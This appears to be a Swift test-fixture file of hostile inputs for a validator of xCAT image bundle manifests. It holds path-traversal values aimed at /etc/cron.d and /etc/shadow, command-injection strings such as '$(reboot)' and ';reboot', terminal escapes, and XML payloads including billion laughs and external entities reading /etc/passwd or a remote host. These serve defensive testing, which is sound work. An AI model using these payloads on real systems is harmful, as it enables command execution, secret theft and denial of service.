// Manifests that point where they must not, carry text that somebody else would run, or are no
// manifests.

private let custom = ManifestDraft.custom
private let boot = ManifestDraft.boot

extension HostileBundle {
  /// Where files would go.
  static let locations: [HostileBundle] =
    ["kernel", "ramdisk", "rootimg"].map { key in
      .manifest("\(key) outside", "/etc/cron.d", "outside") {
        $0.values[key] = "/etc/cron.d/" + BundleDraft.baseName($0.values[key] ?? "")
      }
    }
    + ["pkglist", "exlist", "otherpkglist", "postinstall"].map { list in
      .manifest("\(list) outside", "/etc/cron.d", "outside") {
        $0.linuximage[list] = "/etc/cron.d/" + BundleDraft.baseName($0.linuximage[list] ?? "")
      }
    } + [
      .manifest("synclists outside", "outside") { $0.osimage["synclists"] = "/root/tiny.synclist" },
      .manifest("template outside") { $0.linuximage["template"] = "/root/tiny.exlist" },
      .manifest("the second of a list outside") {
        $0.linuximage["pkglist"] = "\(custom)/tiny.pkglist,/etc/tiny.exlist"
      },
      .manifest("a list that is xCAT's own code", "outside") {
        $0.linuximage["exlist"] = "/opt/xcat/lib/perl/tiny.exlist"
      },
      .manifest("an extra outside", "outside") { $0.extras[0].destination = "/etc/cron.d" },
      .manifest("an extra at the top", "outside") { $0.extras[0].destination = "/" },
      .manifest("an extra with dots", "clean absolute path") {
        $0.extras[0].destination = "/install/../etc/cron.d"
      },
      .manifest("an extra with a relative place", "clean absolute path") {
        $0.extras[0].destination = "install/postscripts"
      },
      .manifest("an extra without a name") { $0.extras[0].source = "/install/postscripts/" },
      .manifest("an extra whose name is dots") { $0.extras[0].source = "/install/.." },
      .manifest("an extra without a place", "<src> or <dest>") {
        $0.lines = ["<extra><src>/install/x</src></extra>"]
      },
      // Values that xCAT's commands would read as several words, options or patterns.
      .manifest("a stranger's folder behind the image's", "linuximage.rootimgdir", "blank") {
        $0.linuximage["rootimgdir"] = "/install/a /victim b"
      },
      .manifest("an option for a profile", "osimage.profile", "dash") {
        $0.osimage["profile"] = "-rf"
      },
      .manifest("a pattern for a version", "osimage.osvers", "shell") {
        $0.osimage["osvers"] = "*"
      },
      .manifest("braces for an architecture", "osimage.osarch", "shell") {
        $0.osimage["osarch"] = "{a,b}"
      },
      .manifest("a home for a profile", "osimage.profile", "shell") {
        $0.osimage["profile"] = "~root"
      },
      .manifest("a command in the environment", "osimage.environvar", "NAME=VALUE") {
        $0.osimage["environvar"] = "A=1,$(id)"
      },
      .manifest("a second word in the environment", "osimage.environvar", "blank") {
        $0.osimage["environvar"] = "A=1 --tempfile"
      },
      .manifest("another file behind a list", "linuximage.pkglist", "blank") {
        $0.linuximage["pkglist"] = "/install/custom/tiny.pkglist /etc/shadow"
      },
      .manifest("an option among drivers", "linuximage.netdrivers", "blank") {
        $0.linuximage["netdrivers"] = "e1000 --help"
      },
      .manifest("a mode that is none", "linuximage.permission", "octal") {
        $0.linuximage["permission"] = "a+s"
      },
      .manifest("a command among kernel parameters", "linuximage.addkcmdline", "shell") {
        $0.linuximage["addkcmdline"] = "quiet;id"
      },
      .manifest("a script of options", "linuximage.postinstall", "absolute path") {
        $0.linuximage["postinstall"] = "--help"
      },
      .manifest("dots in a path", "clean absolute path") {
        $0.values["kernel"] = "\(boot)/../../../../../etc/kernel"
      },
      .manifest("a relative path", "clean absolute path") { $0.values["kernel"] = "boot/kernel" },
      .manifest("an empty path", "kernel", "not defined") { $0.values["kernel"] = "" },
      .manifest("the top as a path") { $0.values["kernel"] = "/" },
      .manifest("the install folder as a path") { $0.values["kernel"] = "/install" },
      .manifest("a neighbour of the install folder", "outside") {
        $0.values["kernel"] = "/install2/kernel"
      },
      .manifest("a path of a megabyte") {
        $0.values["kernel"] = "/install/" + String(repeating: "a/", count: 500_000) + "kernel"
      },
      .manifest("a component of 300 bytes", "clean absolute path") {
        $0.values["kernel"] = "/install/" + String(repeating: "a", count: 300) + "/kernel"
      },
      .manifest("rootimgdir outside", "rootimgdir", "outside") {
        $0.linuximage["rootimgdir"] = "/etc"
      },
      .manifest("rootimgdir at the top", "rootimgdir") { $0.linuximage["rootimgdir"] = "/" },
      .manifest("rootimgdir is the install folder", "rootimgdir") {
        $0.linuximage["rootimgdir"] = "/install"
      },
      .manifest("rootimgdir with dots", "rootimgdir") {
        $0.linuximage["rootimgdir"] = "/install/../etc"
      },
      .manifest("rootimgdir relative", "rootimgdir") { $0.linuximage["rootimgdir"] = "etc" },
      .manifest("a partition file that is somebody's secret", "partitionfile", "outside") {
        $0.linuximage["partitionfile"] = "s:/etc/shadow"
      },
      .manifest("litefile outside") { $0.values["litefile"] = "/etc/litefile.csv" },
      .manifest("rootimgtree outside") { $0.values["rootimgtree"] = "/etc/rootimgtree.gz" },
      .manifest("raw image files outside", "rawimagefiles", "/etc/passwd") {
        $0.osimage["osarch"] = "s390x"
        $0.lines = ["<rawimagefiles><files>/etc/passwd</files></rawimagefiles>"]
      },
      .manifest("a kit's folder outside") {
        $0.lines = ["<kit><kitname>k</kitname><kitdir>/etc/kits</kitdir></kit>"]
      },
      HostileBundle("two files in one place", "same path", "differ") {
        var draft = BundleDraft()
        draft.manifest.extras.append(("/x/initrd-stateless.gz", boot))
        draft.files.append(("extra/initrd-stateless.gz", [1, 2, 3]))
        return draft.bundle()
      },
      .manifest("a place below a file", "below") {
        $0.values["ramdisk"] = "\(boot)/kernel/initrd-stateless.gz"
      },
      .manifest("a place far below a file", "below") {
        $0.extras[0].destination = "\(custom)/tiny.pkglist/a/b/c"
      },
    ]

  /// Names with a meaning for a shell, a path or a terminal.
  static let texts: [HostileBundle] =
    [
      ";reboot", "$(reboot)", "`reboot`", "a&b", "a|b", "a\nb", "a\"b", "a'b", "a>b", "a<b",
      "a\\b", "a\u{9b}31mb", "a\u{7f}b", "a\u{202e}b", "a\u{2028}b",
    ].flatMap { text -> [HostileBundle] in
      let shown = text.unicodeScalars.map { $0.escaped(asASCII: true) }.joined()
      return [
        .manifest("an image called \(shown)") { $0.osimage["imagename"] = "tiny" + text },
        .manifest("profile \(shown)", "profile") { $0.osimage["profile"] = text },
        .manifest("a folder \(shown)") {
          $0.linuximage["pkglist"] = "\(custom)/\(text)/tiny.pkglist"
        },
      ]
    } + [
      .manifest("an image called dots") { $0.osimage["imagename"] = ".." },
      .manifest("an image called as a path") { $0.osimage["imagename"] = "../../evil" },
      .manifest("an image called as an option") { $0.osimage["imagename"] = "-rf" },
      .manifest("an image called as a reference") { $0.osimage["imagename"] = "a@b" },
      .manifest("an image's name of 129 bytes") {
        $0.osimage["imagename"] = String(repeating: "a", count: 129)
      },
      .manifest("an image's name of a megabyte") {
        $0.osimage["imagename"] = String(repeating: "a", count: 1 << 20)
      },
      .manifest("a profile that is a path", "profile") { $0.osimage["profile"] = "../../x" },
      .manifest("a profile that is dots", "profile") { $0.osimage["profile"] = ".." },
      .manifest("a version that is a path", "osvers") { $0.osimage["osvers"] = "a/b" },
      .manifest("an architecture that is a command", "osarch") { $0.osimage["osarch"] = "$(id)" },
      .manifest("rootimgdir that is a command", "rootimgdir") {
        $0.linuximage["rootimgdir"] = "/install/$(id)"
      },
      .manifest("a package folder that is a command", "otherpkgdir") {
        $0.linuximage["otherpkgdir"] = "/install/x;reboot"
      },
      .manifest("arguments of postinstall that are a command", "postinstall") {
        $0.linuximage["postinstall"] = "\(custom)/tiny.postinstall $(reboot)"
      },
      .manifest("a script list that is a command", "postscripts") {
        $0.values["postscripts"] = "syslog,x;reboot"
      },
      .manifest("a netdriver that is a command", "netdrivers") {
        $0.linuximage["netdrivers"] = "e1000`id`"
      },
      .manifest("permission that is a command", "permission") {
        $0.linuximage["permission"] = "755;reboot"
      },
      .manifest("a kernel that is a command", "kernel") {
        $0.values["kernel"] = "/install/$(id)/kernel"
      },
      .manifest("an extra that is a command") { $0.extras[0].source = "/install/$(id)" },
      .manifest("a description that clears the screen", "description") {
        $0.osimage["description"] = "nice\u{9b}2Jimage"
      },
    ]

  static let documents: [HostileBundle] = [
    .document("ten billion laughs", "manifest.xml", "document type") {
      var text = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a0 \"lol\">"
      for i in 1...10 {
        text += "<!ENTITY a\(i) \"" + String(repeating: "&a\(i - 1);", count: 10) + "\">"
      }
      return Array((text + "]><xcatimage>&a10;</xcatimage>").utf8)
    },
    .manifest("an entity from a file", "document type") {
      $0.prolog += "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
      $0.lines = ["<description>&e;</description>"]
    },
    .manifest("a parameter entity from the net", "document type") {
      $0.prolog += "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://192.0.2.1/x\"> %e;]>"
    },
    .manifest("a document type from a file", "document type") {
      $0.prolog += "<!DOCTYPE xcatimage SYSTEM \"/dev/zero\">"
    },
    .manifest("an entity that nobody defined", "manifest.xml") { $0.lines = ["<a>&nix;</a>"] },
    .manifest("a thousand levels", "too many") {
      $0.lines = [
        String(repeating: "<a>", count: 1000) + String(repeating: "</a>", count: 1000)
      ]
    },
    .document("a million levels, never closed", "too many") {
      Array(String(repeating: "<a>", count: 1_000_000).utf8)
    },
    .manifest("200,000 elements", "too many") {
      $0.lines = [String(repeating: "<extra/>", count: 200_000)]
    },
    .document("a manifest cut off", "manifest.xml") {
      Array(ManifestDraft().text.utf8.dropLast(40))
    },
    .manifest("another root", "<html>") { $0.root = "html" },
    .manifest("two rows of osimage", "<osimage>", "more than once") {
      $0.lines = ["<osimage><imagename>other</imagename></osimage>"]
    },
    .manifest("two rows of linuximage", "<linuximage>", "more than once") {
      $0.lines = ["<linuximage><rootimgdir>/etc</rootimgdir></linuximage>"]
    },
    .manifest("two kernels", "<kernel>", "more than once") {
      $0.lines = ["<kernel>/etc/kernel</kernel>"]
    },
    .document("a column twice", "profile", "more than once") {
      Array(
        ManifestDraft().text.split(separator: "\n").flatMap {
          $0.hasPrefix("<profile>") ? [$0, "<profile>other</profile>"] : [$0]
        }.joined(separator: "\n").utf8)
    },
    .manifest("an element nobody knows", "<evil>") { $0.lines = ["<evil><x>1</x></evil>"] },
    .manifest("elements inside a column", "manifest.xml") {
      $0.lines = ["<kernel><a>x</a></kernel>"]
    },
    .manifest("an unknown encoding", "manifest.xml") {
      $0.prolog = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"
    },
    .document("UTF-32", "manifest.xml") {
      ManifestDraft().text.unicodeScalars.flatMap { [UInt8($0.value & 0xff), 0, 0, 0] }
    },
    .document("a NUL in the text", "manifest.xml") {
      Array(ManifestDraft().text.replacing("tiny</profile>", "tiny\u{0}</profile>").utf8)
    },
    .document("a NUL by its number", "manifest.xml") {
      Array(ManifestDraft().text.replacing("tiny</profile>", "tiny&#0;</profile>").utf8)
    },
    .document("an escape by its number", "manifest.xml") {
      Array(ManifestDraft().text.replacing("tiny</profile>", "tiny&#27;[2J</profile>").utf8)
    },
    .document("text that is not UTF-8", "manifest.xml") {
      Array("<xcatimage><osimage><imagename>".utf8) + [0xff, 0xc0]
        + Array("</imagename></osimage></xcatimage>".utf8)
    },
    .manifest("an attribute of a megabyte", "attribute") {
      $0.lines = ["<a b=\"" + String(repeating: "c", count: 1 << 20) + "\"/>"]
    },
    .manifest("columns as attributes", "attribute") {
      $0.lines = ["<osimage imagename=\"evil\" profile=\"evil\"/>"]
    },
    .document("an empty manifest", "manifest.xml") { [] },
    .document("a blank manifest", "manifest.xml") { [UInt8](repeating: 0x20, count: 5000) },
    .document("a manifest of 17 MiB", "manifest.xml") { [UInt8](repeating: 0x20, count: 17 << 20) },
    .document("a manifest that is a program", "manifest.xml") {
      [0x7f, 0x45, 0x4c, 0x46] + [UInt8](repeating: 0, count: 2000)
    },
    .document("two documents", "manifest.xml") {
      Array((ManifestDraft().text + ManifestDraft().text).utf8)
    },
  ]
}

extension String {
  fileprivate func replacing(_ part: String, _ other: String) -> String {
    var out = ""
    var rest = self[...]
    while !rest.isEmpty {
      if rest.hasPrefix(part) {
        out += other
        rest = rest.dropFirst(part.count)
      } else {
        out.append(rest.removeFirst())
      }
    }
    return out
  }
}
